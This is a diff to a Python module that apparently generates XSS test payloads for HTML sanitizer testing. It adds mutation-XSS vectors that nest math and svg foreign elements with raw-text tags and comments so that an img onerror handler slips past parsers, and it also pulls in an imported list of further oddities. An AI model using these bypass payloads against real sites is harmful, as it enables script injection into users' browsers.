@@ -6,6 +6,7 @@ from collections.abc import Iterator
 from itertools import product
 
 from body.judge import words
+from body.oddities import ODDITIES
 
 RUN = "pwned()"
 HANDLERS = words(
@@ -384,7 +385,26 @@ def widgets() -> Iterator[str]:
     yield f"<td style='text-align:right;x:expression({RUN})'>text"
 
 
-FAMILIES = (handlers, scripts, addresses, drawings, formulas, mutations, pages, styles, widgets)
+def confusions() -> Iterator[str]:
+    """Raw text within foreign elements: what one parser takes for text is markup to another."""
+    raws = ("style", "xmp", "title", "noscript", "textarea", "noembed", "template")
+    inner = ("mtext", "desc", "foreignObject", "annotation-xml encoding=text/html", "table", "mi")
+    for foreign, element, raw in product(("math", "svg"), inner, raws):
+        yield (
+            f"<{foreign}><{element}><{raw}><!--</{raw}>"
+            f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">'
+        )
+        yield f"<form><{foreign}><{element}></form><form><mglyph><{raw}></{foreign}><img src=x onerror={RUN}>"
+
+
+def oddities() -> Iterator[str]:
+    yield from ODDITIES
+
+
+FAMILIES = (
+    handlers, scripts, addresses, drawings, formulas, mutations, pages, styles, widgets,
+    confusions, oddities,
+)  # fmt: skip
 
 
 def fragments() -> list[tuple[str, str]]:
